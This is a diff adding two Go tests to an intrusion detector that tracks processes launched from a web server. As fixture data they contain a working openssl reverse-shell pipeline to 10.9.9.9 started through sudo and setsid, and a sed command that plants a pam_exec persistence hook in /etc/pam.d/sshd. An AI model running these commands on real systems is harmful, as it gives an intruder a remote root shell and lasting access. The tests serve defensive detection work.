@@ -2,6 +2,7 @@ package detect
 
 import (
 	"testing"
+	"time"
 
 	"github.com/auditchain/auditchain/parser"
 )
@@ -97,5 +98,59 @@ func TestPlantKnownByItsCommand(t *testing.T) {
 		if got := findingOf(fs, RulePlantedFileRun); (got != nil) != intruder {
 			t.Errorf("intruder %v: planted-file-run fired %v (%v)", intruder, got != nil, ids(fs))
 		}
+	}
+}
+
+// TestDetachedByArgv: a command a launcher in the web server's context
+// detaches (setsid -f) is re-parented to init before it execs; the orphan
+// that execs exactly that argv just after is the launcher's, whatever its
+// account (shop-search: a root shell reached through sudo started its
+// TLS channel so). Another orphan, or the same argv much later, is not.
+func TestDetachedByArgv(t *testing.T) {
+	cmd := []string{"/bin/sh", "-c", "openssl s_client -quiet -connect 10.9.9.9:8443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 10.9.9.9:8444"}
+	for _, c := range []struct {
+		name  string
+		argv  []string
+		delay time.Duration
+		want  bool
+	}{
+		{"the detached command", cmd, 5 * time.Millisecond, true},
+		{"another orphan", []string{"/usr/sbin/cron", "-f"}, 5 * time.Millisecond, false},
+		{"the same argv much later", cmd, time.Minute, false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			s.exec(205, 201, 33, "www-data", "/", "/usr/bin/sudo", "sudo", "-n", "/usr/local/bin/job")
+			e.Observe(s.exec(206, 205, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "/usr/local/bin/job"), s.tree)
+			e.Observe(s.exec(207, 206, 0, "root", "/", "/usr/bin/setsid", append([]string{"setsid", "-f"}, cmd...)...), s.tree)
+			s.t = s.t.Add(c.delay)
+			ev := s.exec(300, 1, 0, "root", "/", "/usr/bin/dash", c.argv...)
+			e.Observe(ev, s.tree)
+			in := e.state.info(ev.Proc)
+			if got := in.web != nil; got != c.want {
+				t.Errorf("orphan adopted for the web server: %v, want %v", got, c.want)
+			}
+		})
+	}
+}
+
+// TestHookNamedScriptRuns: what a persistence hook names is what it will
+// run (shop-search: sed -i '$a session optional pam_exec.so quiet
+// /usr/lib/x86_64-linux-gnu/security/pam_sync.sh' /etc/pam.d/sshd in the
+// intruder's root shell); its run at the next ssh login is the plant
+// firing. A shared program the hook names (/bin/sh) is not.
+func TestHookNamedScriptRuns(t *testing.T) {
+	const script = "/var/lib/.sync/pam_sync.sh" // in no persistence place: the hook names it
+	e, s := webShellScene(t)
+	s.exec(205, 201, 33, "www-data", "/", "/usr/bin/sudo", "sudo", "sh", "-c", "x")
+	e.Observe(s.exec(210, 205, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "cd /dev/shm && sed -i '$a session optional pam_exec.so quiet "+script+" /bin/sh' /etc/pam.d/sshd"), s.tree)
+	s.exec(400, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: alice [priv]")
+	fs := e.Observe(s.exec(401, 400, 0, "root", "/", "/usr/bin/dash", "/bin/sh", script), s.tree)
+	if findingOf(fs, RulePlantedFileRun) == nil {
+		t.Errorf("the hook's script ran at login unseen: %v", ids(fs))
+	}
+	fs = e.Observe(s.exec(402, 400, 0, "root", "/", "/usr/bin/dash", "/bin/sh", "-c", "motd"), s.tree)
+	if findingOf(fs, RulePlantedFileRun) != nil {
+		t.Error("a run of /bin/sh taken for the plant")
 	}
 }
